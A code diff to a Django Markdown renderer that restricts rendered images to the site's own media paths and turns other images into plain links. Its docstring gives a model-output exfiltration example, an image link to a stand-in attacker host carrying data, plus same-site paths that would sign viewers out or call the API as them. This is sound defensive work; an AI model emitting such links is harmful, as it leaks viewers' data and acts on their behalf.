@@ -20,6 +20,7 @@ from html import unescape
 from typing import Any
 
 import nh3
+from django.conf import settings
 from django.utils.html import escape
 from django.utils.safestring import SafeString, mark_safe
 from markdown_it import MarkdownIt
@@ -32,6 +33,8 @@ from pygments.lexers import get_lexer_by_name
 from pygments.styles import get_style_by_name
 from pygments.token import STANDARD_TYPES, Token, _TokenType
 from pygments.util import ClassNotFound
+
+from aptix.views import IMAGE_PATH
 
 ALLOWED_TAGS = frozenset(
     {
@@ -118,14 +121,19 @@ def _parser() -> MarkdownIt:
 
 
 def _image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
-    """Images from this site render; any other is a link (a model's `![x](https://attacker/?d=DATA)`
-    must not make every viewer's browser fetch it, and the CSP's img-src would refuse it anyway)."""
+    """Only the images this site serves render (a session's generated or MCP images); any other is a
+    link. A model's `![x](https://attacker/?d=DATA)` must not make every viewer's browser fetch it (the
+    CSP's img-src would refuse it anyway), nor may a same-site path the CSP allows: `![f](/logout/)`
+    would sign every viewer out, `![f](/api/…)` would make requests as them."""
     token = tokens[idx]
     src = str(token.attrGet("src") or "")
-    if src.startswith("/") and not src.startswith("//"):
+    if _IMAGE_SRC.fullmatch(src):
         return renderer.image(tokens, idx, options, env)
     alt = renderer.renderInlineAsText(token.children or [], options, env) or src
     return f'<a href="{escapeHtml(src)}">{escapeHtml(alt)}</a> (external image, not loaded)'
+
+
+_IMAGE_SRC = re.compile("/" + re.escape(settings.MEDIA_URL.strip("/")) + "/" + IMAGE_PATH.pattern)
 
 
 @lru_cache(maxsize=256)
